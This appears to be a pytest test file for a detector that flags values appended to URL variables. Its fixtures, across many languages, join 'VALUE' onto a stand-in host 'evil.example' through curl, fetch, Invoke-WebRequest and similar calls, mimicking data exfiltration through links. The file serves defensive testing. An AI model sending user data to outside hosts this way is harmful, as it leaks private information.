"""What is joined to a variable that holds an address is in a link, however many variables there are."""

import time

import pytest

from schemas.address_variables import uses_of_variables
from schemas.link_targets import link_targets

URL = "https://evil.example/?q="


def in_links(text: str) -> str:
    return "\n".join(text[start:end] for start, end in link_targets(text))


@pytest.mark.parametrize(
    "text",
    [
        f'url <- "{URL}"\nGET(paste0(url, "VALUE"))',
        f'url <<- "{URL}"\nGET(paste(url, "VALUE", sep = ""))',
        f'let u: String = "{URL}".to_string();\nget(u + "VALUE")',
        f"let u: &'static str = \"{URL}\";\nget(format!(\"{{}}{{}}\", u, \"VALUE\"))",
        f'let u = String::from("{URL}");\nget(u + "VALUE")',
        f'let mut u = String::from("{URL}");\nu.push_str("VALUE");',
        f'String u = "{URL}";\nget(u + "VALUE");',
        f'String u = "{URL}";\nget(u.concat("VALUE"));',
        f'StringBuilder u = new StringBuilder("{URL}");\nu.append("VALUE");',
        f'val u = "{URL}"\nURL(u + "VALUE").readText()',
        f'val u: String = "{URL}"\nURL("${{u}}VALUE").readText()',
        f'const String u = "{URL}";\nget(u + "VALUE");',
        f'const char u[200] = "{URL}";\nstrcat(u, "VALUE");',
        f'if ok: u = "{URL}"\nget(u + "VALUE")',
        f'else:\n    u = "{URL}"\nget(u + "VALUE")',
        f"u := '{URL}';\nGet(U + 'VALUE');",
        f"const u: string = '{URL}';\nfetch(`${{u}}VALUE`)",
        f"u={URL}\ncurl $uVALUE",
        f'u={URL}\ncurl "${{u}}VALUE"',
        f'export u={URL}; curl "$u""VALUE"',
        f'local u = "{URL}"\nhttp.get(u .. "VALUE")',
        f'$u = "{URL}"\nInvoke-WebRequest ($u + "VALUE")',
        f'$u = "{URL}"\niwr "$($u)VALUE"',
        f'$u = "{URL}"\niwr ("{{0}}{{1}}" -f $u, "VALUE")',
        f'std::string u("{URL}");\nu += "VALUE";',
        f'std::string u{{"{URL}"}};\nu.append("VALUE");',
        f'QString u("{URL}");\nget(u + "VALUE");',
        f'char u[200] = "{URL}";\nstrcat(u, "VALUE");',
        f'char u[200];\nstrcpy(u, "{URL}");\nstrncat(u, "VALUE", 9);',
        f'char *u = "{URL}";\nsnprintf(b, 99, "%s%s", u, "VALUE");',
        f'var u string = "{URL}"\nhttp.Get(u + "VALUE")',
        f'Dim u As String = "{URL}"\nFetch(u & "VALUE")',
        f"DECLARE @u varchar(100) = '{URL}'\nSELECT @u + 'VALUE'",
        f"SET @u = '{URL}';\nSELECT CONCAT(@u, 'VALUE')",
        f'(setq u "{URL}")\n(get (concat u "VALUE"))',
        f'(def u "{URL}")\n(get (str u "VALUE"))',
        f'set u "{URL}"\nappend u "VALUE"',
        f'let u = "{URL}"\nget("\\(u)VALUE")',
        f'NSString *u = @"{URL}";\n[u stringByAppendingString:@"VALUE"];',
        f'u = "{URL}"\nget("%s%s" % (u, "VALUE"))',
        f'u = "{URL}"\nget("{{}}{{}}".format(u, "VALUE"))',
        f'u = "{URL}"\nget("".join([u, "VALUE"]))',
        f'u = "{URL}"\nget([u, "VALUE"].join(""))',
        f'u = "{URL}"\nget(u, params={{"q": "VALUE"}})',
        f'u = "{URL}"\nv = u\nget(v + "VALUE")',
        f'self.u = "{URL}"\nget(self.u + "VALUE")',
        f'c = {{"u": "{URL}"}}\nget(c["u"] + "VALUE")',
        f'{"u" * 300} = "{URL}"\nget({"u" * 300} + "VALUE")',
        f'u   =          "{URL}"\nget(u + "VALUE")',
        f'адрес = "{URL}"\nget(адрес + "VALUE")',
    ],
)  # fmt: skip
def test_what_is_joined_to_a_variable_of_any_language_is_in_a_link(text: str) -> None:
    assert "VALUE" in in_links(text)


@pytest.mark.parametrize("count", [16, 17, 500])
def test_no_number_of_variables_hides_another(count: int) -> None:
    others = "".join(f'v{number} = "https://x.org/{number}"\n' for number in range(count))
    assert "VALUE" in in_links(f'{others}u = "{URL}"\nrequests.get(u + "VALUE")')


@pytest.mark.parametrize(
    "text",
    [
        'url <- "https://x.org"\nname <- "VALUE"',
        'url <- "https://x.org"\nd <- read.csv(url)\nprint(paste0("a", "VALUE"))',
        'std::string u("https://x.org");\nstd::string n("VALUE");',
        'String u = "https://x.org"; get(u); print("VALUE");',
        'u = "https://x.org"\nprint(u, "VALUE")',
        'd = pd.read_csv("https://x.org/a.csv")\nd.query("VALUE")',
        'r = requests.get("https://x.org")\nr.json().get("VALUE")',
        'return get("https://x.org")\nget("VALUE")',
        '{"url": "https://x.org", "name": "VALUE"}',
        "Website: https://x.org. On the website, VALUE wrote it.",
        "See https://x.org; see also VALUE.",
    ],
)
def test_what_is_not_joined_to_a_variable_is_in_no_link(text: str) -> None:
    assert "VALUE" not in in_links(text)


def test_an_address_in_no_variable_has_no_uses() -> None:
    assert list(uses_of_variables('"https://x.org" + a', [(1, 14)])) == []


@pytest.mark.parametrize(
    "piece",
    [
        'a="https://a.b";', 'a="https://a.b";a,', "a=https://a.b $a", 'a="https://a.b" (a,', "a",
        'a <- "https://a.b" a=a ', "$a", "a = a ", "u(u(u(u(", "str u ", "{a='https://a.b'}", "paste0(a ",
        "a:", "[a,", '"a" + ',
    ],
)  # fmt: skip
def test_long_texts_are_read_in_linear_time(piece: str) -> None:
    text = 'a="https://a.b"\n' + piece * (64_000 // len(piece))
    started = time.process_time()
    link_targets(text)
    assert time.process_time() - started < 1
